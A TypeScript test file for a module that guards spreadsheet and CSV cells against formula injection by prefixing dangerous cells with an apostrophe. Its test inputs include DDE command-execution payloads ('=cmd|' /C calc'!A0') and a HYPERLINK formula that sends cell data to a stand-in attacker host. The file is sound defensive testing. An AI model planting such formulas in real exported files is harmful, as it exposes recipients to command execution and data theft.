import { assert, describe, it } from "@effect/vitest"
import { FastCheck } from "effect"
import { forSpreadsheet, fromSpreadsheet, isFormula } from "../src/Formula.ts"
import { scale } from "./scale.ts"

/** Cells that are formulas, with what stands for them in a file for a spreadsheet. */
const formulas: ReadonlyArray<readonly [cell: string, guarded: string]> = [
  ["=1+1", "'=1+1"],
  ["=", "'="],
  ["==", "'=="],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ["=HYPERLINK(\"https://evil.example?\"&A1,\"click\")", "'=HYPERLINK(\"https://evil.example?\"&A1,\"click\")"],
  ["=\"00501\"", "'=\"00501\""],
  ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
  ["@", "'@"],
  ["@handle", "'@handle"],
  ["+1+1", "'+1+1"],
  ["-1+1", "'-1+1"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ["+1 555", "'+1 555"],
  ["+1 (555) 010-9999", "'+1 (555) 010-9999"],
  ["+1-555-010-9999", "'+1-555-010-9999"],
  ["+A1", "'+A1"],
  ["-A1", "'-A1"],
  ["-x", "'-x"],
  ["--5", "'--5"],
  ["+-5", "'+-5"],
  ["-=1", "'-=1"],
  ["- item", "'- item"],
  ["-5;=1", "'-5;=1"],
  ["-5e", "'-5e"],
  ["-e5", "'-e5"],
  ["-1e5e5", "'-1e5e5"],
  ["-$5", "'-$5"],
  ["-5 km", "'-5 km"],
  ["-.", "'-."],
  ["-2024-01-01", "'-2024-01-01"],
  ["-81.79, 26.14", "'-81.79, 26.14"],
  ["-∞", "'-∞"],
  ["＝1+1", "'＝1+1"],
  ["＋1+1", "'＋1+1"],
  ["－5", "'－5"],
  ["＠SUM(A1)", "'＠SUM(A1)"],
  [" =1", "' =1"],
  ["   @SUM(A1)", "'   @SUM(A1)"],
  ["\u00a0=1", "'\u00a0=1"],
  ["\u00a0-5", "'\u00a0-5"],
  ["\u2003+A1", "'\u2003+A1"],
  ["\u3000＝1", "'\u3000＝1"],
  ["\u2028=1", "'\u2028=1"],
  ["\u0085=1", "'\u0085=1"],
  ["\u200b=1", "'\u200b=1"],
  ["\u200d\u2060=1", "'\u200d\u2060=1"],
  ["\ufeff=1", "'\ufeff=1"],
  ["\u00ad=1", "'\u00ad=1"],
  ["\u202e=1", "'\u202e=1"],
  ["\u3164=1", "'\u3164=1"],
  ["\0=1", "'\0=1"],
  ["\v\f=1", "'\v\f=1"],
  [" \u200b \u00a0=1", "' \u200b \u00a0=1"],
  ["\tabc", "'\tabc"],
  ["\t", "'\t"],
  ["\t=1", "'\t=1"],
  ["\t-5", "'\t-5"],
  ["\rabc", "'\rabc"],
  ["\nabc", "'\nabc"],
  ["\r\n=1", "'\r\n'=1"],
  ["a\n=1", "a\n'=1"],
  ["a\r=1", "a\r'=1"],
  ["a\r\n=1\r\nb", "a\r\n'=1\r\nb"],
  ["a\n\n \u00a0@SUM(A1)", "a\n\n' \u00a0@SUM(A1)"],
  ["a\n＝1", "a\n'＝1"],
  ["list:\n- one\n- two", "list:\n'- one\n'- two"],
  ["=1\n=2", "'=1\n'=2"],
  ["-5\n=1", "-5\n'=1"],
  ["\"a\n=1", "\"a\n'=1"]
]

const others: ReadonlyArray<string> = [
  "",
  " ",
  "a",
  "34102",
  "a=1",
  "a+b",
  "a@b.example",
  "x-5",
  "1-2",
  "1+1",
  "5-",
  "{\"a\":\"=1\"}",
  "[\"=1\"]",
  "\"=1\"",
  "'=1",
  "(=1)",
  ".=1",
  "ü=1",
  "🎉",
  "a\nb",
  "a\n\tb",
  "a\n",
  "a\n\n",
  "{\n  \"a\": -5\n}",
  // numbers
  "-5",
  "+5",
  "-0",
  "+3.2",
  "-3.2",
  "-5.",
  "-.5",
  "-,5",
  "+.5",
  "-1e5",
  "-1E-5",
  "+1e+5",
  "-1,234.50",
  "-1.234,50",
  "-5%",
  "-5 %",
  "+2.5 %",
  " -5",
  "-5 ",
  "+15550109999",
  "-5\n+6",
  "a\n-5",
  // a sign that stands for nothing
  "-",
  "+",
  " - "
]

describe("Formula", () => {
  it.each(formulas)("%j is a formula", (cell, guarded) => {
    assert.isTrue(isFormula(cell))
    assert.strictEqual(forSpreadsheet(cell), guarded)
    assert.strictEqual(fromSpreadsheet(guarded), cell)
  })

  it.each(others)("%j is none", (cell) => {
    assert.isFalse(isFormula(cell))
    assert.strictEqual(forSpreadsheet(cell), cell)
    // an apostrophe before a formula is taken for the guard
    if (!isFormula(cell.replace(/^'/, ""))) assert.strictEqual(fromSpreadsheet(cell), cell)
  })

  it.each<[cell: string, kept: string]>([
    ["00501", "=\"00501\""],
    ["00", "=\"00\""],
    [" 00501 ", "=\" 00501 \""],
    ["9780306406157", "=\"9780306406157\""],
    ["123456789012", "=\"123456789012\""],
    ["12345678901234567890", "=\"12345678901234567890\""],
    ["+491511234567", "=\"+491511234567\""],
    ["0", "0"],
    ["0.5", "0.5"],
    ["34102", "34102"],
    ["12345678901", "12345678901"],
    ["00501-1234", "00501-1234"],
    ["00501\n", "00501\n"],
    ["0٣", "0٣"]
  ])("the digits of %j stay, as %j", (cell, kept) => {
    assert.strictEqual(forSpreadsheet(cell), kept)
  })

  it("is never left after the guard, and no other cell is changed", () => {
    const part = FastCheck.constantFrom(..."=+-@＝＋ \t\r\n\u00a0\u200b\u3000\0'\"a15.,%eE".split(""))
    const cell = FastCheck.array(part).map((parts) => parts.join("")).filter((cell) => !/^ *\+?[\d ]+$/.test(cell))
    FastCheck.assert(
      FastCheck.property(cell, (cell) => {
        const guarded = forSpreadsheet(cell)
        assert.isFalse(isFormula(guarded))
        assert.strictEqual(guarded === cell, !isFormula(cell))
        assert.strictEqual(guarded.replaceAll("'", ""), cell.replaceAll("'", ""))
      }),
      { numRuns: 5000 }
    )
  })

  it("takes a time that grows with the length of the cell alone", () => {
    const length = scale(2 ** 17, 2 ** 20, 2 ** 20)
    for (const part of ["\n", " ", "\n ", "\u00a0", "-", "1", ",", "-1\n", "=\n"]) {
      for (const [begin, end] of [["", ""], ["-", "x"], [" -1", "e"]]) {
        const cell = begin + part.repeat(length / part.length) + end
        assert.isAtLeast(forSpreadsheet(cell).length, cell.length)
      }
    }
  })

  it.each([
    "1E5",
    "219E01",
    "2-1",
    "MAR1",
    "mar-1",
    "1-Mar",
    "SEPT2",
    "3 May 2020",
    "May 2020",
    "Dez 5",
    "1/2",
    "1 1/2",
    "12:30",
    "12:30 PM",
    "1 a",
    "TRUE",
    "false",
    "WAHR",
    "1.10",
    "1,234",
    "5%",
    "$5",
    "5 €",
    "(5)",
    "+5",
    "-05",
    " 12",
    "2020-01-01",
    "1.2.2020",
    "2026-11-27T12:00:00Z",
    "#N/A",
    "00501",
    "123456789012"
  ])("keeps the text %j, which a spreadsheet would take for something else", (text) => {
    assert.strictEqual(forSpreadsheet(text, true), `="${text}"`)
  })

  it.each([
    "-5",
    "4.2",
    "0",
    "34102",
    "0.5",
    "A1B2",
    "Naples",
    "Mars 1 Mission",
    "marble 5th",
    "12 Main St",
    "1D5X",
    "TRUEST",
    "v1.0",
    "",
    "x",
    "-"
  ])("leaves the text %j alone", (text) => {
    assert.strictEqual(forSpreadsheet(text, true), text)
  })

  it.each(["1E5", "2.50E3", "-0.5", "1.10", "true"])("leaves the value %s alone, which is no text", (text) => {
    assert.strictEqual(forSpreadsheet(text), text)
  })
})
